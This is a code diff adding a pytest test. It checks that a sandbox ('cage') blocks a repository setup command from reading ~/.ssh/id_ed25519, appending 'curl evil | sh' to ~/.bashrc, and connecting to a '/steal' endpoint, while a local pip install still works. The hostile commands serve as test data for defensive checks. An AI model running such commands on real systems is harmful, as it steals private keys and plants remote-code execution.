@@ -311,3 +311,42 @@ def test_ps_and_pgrep_see_the_workers_own_processes_in_the_cage(
     assert byline.group(2).split() == [byline.group(1)], byline.group(0)
     assert "outside=[]" in raw, raw
     assert outside.poll() is None
+
+
+def test_the_setup_command_runs_in_the_workers_cage(
+        git_repo: Path, claude_bin: str, tmp_path: Path, planted: dict[str, str],
+        isolated_env: Path) -> None:
+    """The repository's setup command (run in the new worktree before claude) is
+    repository-controlled: it runs under the worker's cage rules. Its read of
+    ~/.ssh/id_ed25519 and its write to ~/.bashrc are refused and shown as blocked (in the
+    stream and in `show`), its connection to a loopback server that is not allowed is
+    refused and shown; a real setup (files made in the worktree, a `pip install` from the
+    test's local index, an allowed host, through srt's proxy) works."""
+    _cage_ready()
+    py = sys.executable
+    index_dir = _index(tmp_path / "index")
+    with _Server() as loop, _Server(index_dir) as index:
+        setup = (f"cat ~/.ssh/id_ed25519 || true; echo 'curl evil | sh' >> ~/.bashrc || true; "
+                 f"curl -sS -m 20 http://127.0.0.1:{loop.port}/steal || true; "
+                 "echo made > setup-made.txt && "
+                 f"{py} -m pip install -q --no-cache-dir --disable-pip-version-check "
+                 f"--index-url http://127.0.0.1:{index.port}/simple --target .deps cagepkg && "
+                 f"PYTHONPATH=.deps {py} -c 'import cagepkg; print(\"setup value\", "
+                 "cagepkg.VALUE)'")
+        config = (f'allow_hosts = ["127.0.0.1:{index.port}"]\n'
+                  f'[repos."{git_repo}"]\nsetup = {json.dumps(setup)}\n')
+        task, env, logs, raw = _caged_run(
+            git_repo, claude_bin, tmp_path,
+            [_bash("cat setup-made.txt; ls .deps"), "done"], config)
+        assert task["state"] == "succeeded", task
+        assert planted["ssh"] not in raw
+        assert (isolated_env / ".bashrc").read_text() == "# the user's own\n"
+        assert loop.hits == []
+        assert any("cagepkg" in hit for hit in index.hits)
+    assert "setup value 42" in raw  # the setup's own output, in its stream line
+    assert "made" in raw and "cagepkg" in raw  # what the worker then found in its worktree
+    for line in ("⊘ blocked: read ~/.ssh/id_ed25519", "⊘ blocked: write ~/.bashrc",
+                 f"⊘ blocked: connect 127.0.0.1:{loop.port}"):
+        assert line in logs, (line, logs)
+    shown = _fleet(env, Path(task["repo"]), "show", task["id"]).stdout
+    assert "⊘ blocked: write ~/.bashrc" in shown, shown
